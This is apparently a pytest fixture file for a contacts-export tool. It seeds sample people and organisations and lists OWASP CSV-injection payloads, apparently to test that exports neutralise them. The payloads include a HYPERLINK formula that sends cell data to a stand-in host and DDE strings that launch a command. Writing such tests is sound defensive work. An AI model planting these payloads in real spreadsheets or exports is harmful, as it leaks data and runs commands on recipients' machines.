"""People to export and files to import, made through the real services."""

from __future__ import annotations

import pytest

from tests.conftest import Cli

#: The OWASP CSV-injection examples.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
)

#: (name, org, email, phone, extra options)
PEOPLE = (
    ("Amina Qureshi", "Ministry of Interior", "amina.qureshi@interior.gov.pk", "+92512601461",
     {"tags": ["media-list"]}),
    ("Jean-François Cautain", "European Union", "jf.cautain@eeas.europa.eu", "+3222991111",
     {"honorific": "H.E.", "title": "Mr.", "notes": "Met at the launch; likes \"quotes\", commas"}),
    ("Ayesha Malik", "Dawn Media Group", "ayesha@dawn.com.pk", None, {}),
    ("Olga Ivanova", "Dawn Media Group", "olga@dawn.com.pk", "+923001234567",
     {"tags": ["media-list", "press"]}),
)


def add_people(url: str, people=PEOPLE) -> None:
    from stakeholders.db import session_scope
    from stakeholders.services import orgs, people as people_service

    with session_scope(url) as s:
        made: set[str] = set()
        for name, org, email, phone, extra in people:
            if org and org not in made:
                orgs.add_organization(s, org, sector="media" if "Media" in org else "government")
                made.add(org)
            people_service.add_person(
                s, name, org=org, position="Officer" if org else None,
                emails=[email] if email else [], phones=[phone] if phone else [], **extra)


@pytest.fixture
def people_cli(db_url: str) -> Cli:
    add_people(db_url)
    return Cli(db_url)
